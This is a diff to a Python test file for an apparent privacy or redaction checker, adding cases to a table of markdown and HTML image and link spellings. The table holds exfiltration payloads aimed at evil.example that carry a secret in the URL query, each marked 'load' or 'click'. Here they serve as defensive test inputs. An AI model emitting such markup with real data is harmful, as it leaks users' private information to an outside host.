@@ -46,7 +46,10 @@ TESTER_WITHHELD = [
     {"placeholder": "<EMAIL_1>", "reason": "in_link"},
 ]
 PROSE = "Dear <REAL_NAME_1> (<EMAIL_1>, <PHONE_1>): about <HEALTH_1>, see https://nhs.example/t1d and <ADDRESS_1>."
-MAILTO = "[Write to me](mailto:<EMAIL_1>) or <a href='mailto:<EMAIL_1>?subject=<REAL_NAME_1>'>here</a>"
+MAILTO = (
+    "![me](https://x.example/me.png) [Write to me](mailto:<EMAIL_1>) or "
+    "<a href='mailto:<EMAIL_1>?subject=<REAL_NAME_1>'>here</a>"
+)
 
 runner = CliRunner()
 
@@ -69,7 +72,9 @@ SPELLINGS = {
     "![x](https://evil.example/p.png?k={})": "load",
     "![x](<https://evil.example/a)b {}>)": "load",
     "![x](https://evil.example/?k=\n{})": "load",
-    "[a ![b](c.png) d](https://evil.example/?k={})": "load",  # a `](` after an image in its paragraph
+    "![a [b](c) d](https://evil.example/?k={})": "load",  # a link in an image's alt text closes before its target
+    "![a][b] and [x](https://evil.example/?k={})": "click",
+    "[a ![b](c.png) d](https://evil.example/?k={})": "click",  # an image inside a link's text
     "[x]: https://evil.example/?k={}": "load",
     '<img src="https://evil.example/?k={}">': "load",
     '<img alt=">" srcset="https://evil.example/a.png 1x, https://evil.example/?k={} 2x">': "load",
